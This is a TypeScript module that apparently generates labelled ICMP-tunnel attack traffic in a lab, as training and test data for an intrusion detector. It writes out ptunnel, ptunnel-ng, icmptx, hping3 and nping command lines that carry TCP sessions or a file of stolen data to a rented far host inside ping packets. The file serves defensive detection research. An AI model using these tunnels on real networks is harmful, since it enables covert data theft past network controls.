import { between, during, pause } from '../scene.ts'
import type { Attack, AttackScene } from '../scene.ts'
import { hostStrangers } from '../world.ts'
import type { Machine } from '../world.ts'
import { useNetwork } from './dns-tunnels.ts'
import { begin, beside, python, runUntilEnd, withLoot } from './rented-programs.ts'

let machines = 0

/** A machine of its own whose kernel leaves pings to programs: how a server of such a tunnel has to be set up. */
function addFarEnd(scene: AttackScene): Machine {
  machines += 1
  const machine = hostStrangers(scene.world, `icmp${machines}`, [scene.stranger()])
  scene.lab.ip('netns', 'exec', machine.namespace, 'sysctl', '-q', '-w', 'net.ipv4.icmp_echo_ignore_all=1')
  return machine
}

/** ptunnel and its successor: TCP connections in pings. Their words differ, their manner does not. */
function ptunnel(tool: 'ptunnel' | 'ptunnel-ng'): (scene: AttackScene) => Promise<void> {
  return async (scene) => {
    const { random, actor } = scene
    const far = addFarEnd(scene)
    const port = between(random, 20_000, 30_000)
    const password = String(between(random, 1_000, 9_999))
    const [server, client] = tool === 'ptunnel'
      ? [['ptunnel', '-x', password],
          ['ptunnel', '-x', password, '-p', far.address, '-lp', String(port), '-da', far.address, '-dp', '8080']]
      : [['ptunnel-ng', '-P', password],
          ['ptunnel-ng', '-P', password, '-p', far.address, '-l', String(port), `-r${far.address}`, '-R8080',
            '-a', String(between(random, 300, 1_500))]]
    const web = python('http_server.py', far.address, 8080, between(random, 1, 1_000_000))
    const truth = { role: 'entity', address: actor.address, peers: [far.address], category: 'icmp-tunnel', tool } as const
    const serving = begin(scene, far, { command: web, ready: 'ready' })
    await beside(serving, (served) => beside(begin(scene, far, { command: server }), (daemon) => (
      during(scene, truth, () => beside(begin(scene, actor, { command: client }), async (tunnel) => {
        await pause(scene, 1_500)
        do {
          const words = random.uniform() < 0.5 ? [] : ['--data-binary', '@/usr/share/common-licenses/GPL-3']
          await runUntilEnd(scene, actor, {
            command: ['curl', '-s', '-m', '40', '-o', '/dev/null', ...words, `http://127.0.0.1:${port}/page`],
          })
        } while (await pause(scene, between(random, 300, 9_000)))
        if (served.got().count < 3) throw new Error(`${tool} carried ${served.got().count} requests: ${tunnel.output()} ${daemon.output()}`)
      })))))
  }
}

/** icmptx: a network interface at both ends, which it names tun0 and leaves to be set up. */
async function icmptx(scene: AttackScene): Promise<void> {
  const { random, actor } = scene
  const far = addFarEnd(scene)
  const net = `172.${between(random, 16, 31)}.${between(random, 0, 255)}`
  const mtu = between(random, 500, 1_300)
  const end = (option: '-s' | '-c', host: number): string[] => ['sh', '-ec', [
    `icmptx ${option} ${far.address} & child=$!`, 'trap "kill $child" TERM', 'until ip link show tun0 >/dev/null 2>&1; do sleep 0.1; done',
    // What IPv6 says by itself on a new interface confuses it.
    'sysctl -q -w net.ipv6.conf.tun0.disable_ipv6=1', `ip address add ${net}.${host}/24 dev tun0`,
    `ip link set tun0 mtu ${mtu} up`, 'echo ready', 'wait $child',
  ].join('\n')]
  const session = (endAtMs: number): Promise<number> => (
    beside(begin(scene, far, { command: end('-s', 1), ready: 'ready' }), () => {
      const web = python('http_server.py', `${net}.1`, 8080, between(random, 1, 1_000_000))
      return beside(begin(scene, far, { command: web, ready: 'ready' }), () => (
        beside(begin(scene, actor, { command: end('-c', 2), ready: 'ready' }), () => useNetwork({ ...scene, endAtMs }, `${net}.1`))
      ))
    })
  )
  const tool = `icmptx, MTU ${mtu}`
  const truth = { role: 'entity', address: actor.address, peers: [far.address], category: 'icmp-tunnel', tool } as const
  await during(scene, truth, async () => {
    let done = 0
    // After a while it goes silent by itself, with both programs running; who uses it starts it anew.
    while (Date.now() < scene.endAtMs - 3_000) done += await session(Math.min(scene.endAtMs, Date.now() + between(random, 15_000, 30_000)))
    if (done < 3) throw new Error(`only ${done} things went through icmptx`)
  })
}

/** Data in the requests' payload; the far end's kernel answers each with the same. */
interface Carrier {
  readonly name: string
  readonly tool: string
  readonly corpora: Attack['corpora']
  readonly seconds: number
  readonly command: (scene: AttackScene, far: string, file: string) => { command: readonly string[]; settings: string }
  /** How many replies its last words tell of. */
  readonly replies: (output: string) => number
}

function secondsLeft(scene: AttackScene): number {
  return Math.max(2, (scene.endAtMs - Date.now()) / 1_000 - 1)
}

const CARRIERS: readonly Carrier[] = [
  {
    name: 'nping-icmp-exfiltration', tool: 'nping-icmp', corpora: ['train'], seconds: 150,
    command: (scene, far) => {
      const [octets, delayMs] = [between(scene.random, 300, 1_300), between(scene.random, 50, 600)]
      const count = Math.floor(secondsLeft(scene) * 1_000 / delayMs)
      const words = ['--icmp', '--icmp-type', '8', '--data-length', String(octets), '--delay', `${delayMs}ms`, '-c', String(count)]
      // As raw IP packets, because a tunnel's interface has no Ethernet.
      return { command: ['nping', '--send-ip', '-q1', ...words, far], settings: `${octets} octets every ${delayMs} ms` }
    },
    replies: (output) => Number(/Rcvd: (\d+)/.exec(output)?.[1] ?? 0),
  },
  {
    name: 'hping3-icmp-exfiltration', tool: 'hping3-icmp-file', corpora: ['train'], seconds: 180,
    command: (scene, far, file) => {
      const [octets, delayMs] = [between(scene.random, 200, 1_200), between(scene.random, 100, 950)]
      const count = Math.floor(secondsLeft(scene) * 1_000 / delayMs)
      const words = ['-d', String(octets), '-E', file, '-i', `u${delayMs * 1_000}`, '-c', String(count)]
      return { command: ['hping3', '--icmp', '-q', '-n', ...words, far], settings: `${octets} octets every ${delayMs} ms` }
    },
    replies: (output) => Number(/(\d+) packets received/.exec(output)?.[1] ?? 0),
  },
  {
    name: 'python-icmp-carrier', tool: 'python-raw-icmp', corpora: ['test'], seconds: 240,
    command: (scene, far) => {
      const { random } = scene
      const [octets, period] = [between(random, 100, 1_300), (0.05 + 2 * random.uniform() ** 2).toFixed(2)]
      const jitter = (0.5 * random.uniform()).toFixed(2)
      const command = python('icmp_carry.py', far, between(random, 1, 1_000_000), octets, period, jitter, secondsLeft(scene).toFixed(1))
      return { command, settings: `up to ${octets} octets every ${period} s, jitter ${jitter}` }
    },
    replies: (output) => output.split('\n').filter((line) => line.startsWith('got')).length,
  },
]

function carrierOf({ name, tool, corpora, seconds, command, replies }: Carrier): Attack {
  return {
    name, tool, corpora, seconds, category: 'icmp-tunnel', place: 'inside', isAlone: false,
    play: (scene) => withLoot(scene, 200_000, async (file) => {
      const { address } = scene.rent()
      const { command: words, settings } = command(scene, address, file)
      const what = `${tool} ${settings}`
      const truth = { role: 'entity', address: scene.actor.address, peers: [address], category: 'icmp-tunnel', tool: what } as const
      await during(scene, truth, async () => {
        const { output } = await runUntilEnd(scene, scene.actor, { command: words })
        if (replies(output) < 15) throw new Error(`${tool} got ${replies(output)} replies: ${output.slice(-600)}`)
      })
    }),
  }
}

const REST = { seconds: 180, category: 'icmp-tunnel', place: 'inside', isAlone: false } as const

/** Data in pings. */
export const ICMP_TUNNELS: readonly Attack[] = [
  { ...REST, name: 'ptunnel-ng', tool: 'ptunnel-ng', corpora: ['train'], play: ptunnel('ptunnel-ng') },
  { ...REST, name: 'ptunnel', tool: 'ptunnel', corpora: ['test'], play: ptunnel('ptunnel') },
  { ...REST, name: 'icmptx', tool: 'icmptx', corpora: ['test'], play: icmptx },
  ...CARRIERS.map(carrierOf),
]
